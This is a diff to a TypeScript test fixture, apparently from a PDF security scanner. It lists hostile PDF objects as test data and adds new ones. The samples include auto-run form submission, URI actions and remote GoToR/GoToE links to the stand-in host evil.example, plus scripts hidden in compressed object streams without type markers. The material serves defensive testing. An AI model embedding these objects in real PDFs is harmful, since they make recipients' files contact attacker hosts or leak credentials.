@@ -31,6 +31,8 @@ const acts: readonly (readonly [name: string, object: string])[] = [
   ['a form that sends itself', '<</OpenAction<</S/SubmitForm/F(http://evil.example)>>>>'],
   ['a file on another machine', '<</AA<</O<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>>>>>'],
   ['a file within that it opens', '<</S/GoToE/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>'],
+  ['a site that it opens', '<</OpenAction<</S/URI/URI(https://evil.example)>>>>'],
+  ['a site that a page opens', '<</AA<</O<</S/URI/URI(https://evil.example)>>>>>>'],
   ['a form of the old kind', '<</AcroForm<</XFA[(template) 5 0 R]>>>>'],
 ]
 
@@ -41,6 +43,11 @@ const inStreams: readonly HostileFile[] = [
   ...acts.map(([name, object]) =>
     withObject(`${name}, in a compressed object`, objectStream(`4 0 ${object}`)),
   ),
+  withObject(
+    'a script in objects without a type',
+    objectStream(`4 0 ${script}`, '/N 1/First 4/Filter/FlateDecode'),
+  ),
+  withObject('a script in objects without a word', objectStream(`4 0 ${script}`, '/Filter/FlateDecode')),
   hidden(
     'a script in hexadecimal',
     '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode',
